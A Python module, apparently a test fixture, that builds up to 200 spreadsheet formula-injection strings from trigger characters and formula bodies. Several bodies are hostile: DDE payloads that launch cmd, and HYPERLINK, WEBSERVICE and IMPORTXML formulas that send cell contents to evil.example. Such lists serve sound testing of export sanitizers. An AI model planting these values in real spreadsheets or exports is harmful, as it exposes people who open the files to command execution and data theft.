"""Two hundred texts by which a spreadsheet could be made to compute, call or open something."""

from __future__ import annotations

from typing import Final

_SIGNS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''+",
    " =",
    "\t=",
    "=\t",
)
_BODIES: Final = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"点这里")',
    'WEBSERVICE("http://evil.example/")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "A1",
    "-1+2",
    "2+5+cmd|'/C calc'!A0",
    "@SUM(1,1)",
    '甲";=1+1;"',
)
_MORE: Final = (
    "=1+1,=2+2",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    "甲\n=1+1",
    "甲\r\n=1+1",
    "=",
    "-",
    "--1",
    "+-1",
)

PAYLOADS: Final = tuple(
    dict.fromkeys([*(sign + body for sign in _SIGNS for body in _BODIES), *_MORE])
)[:200]
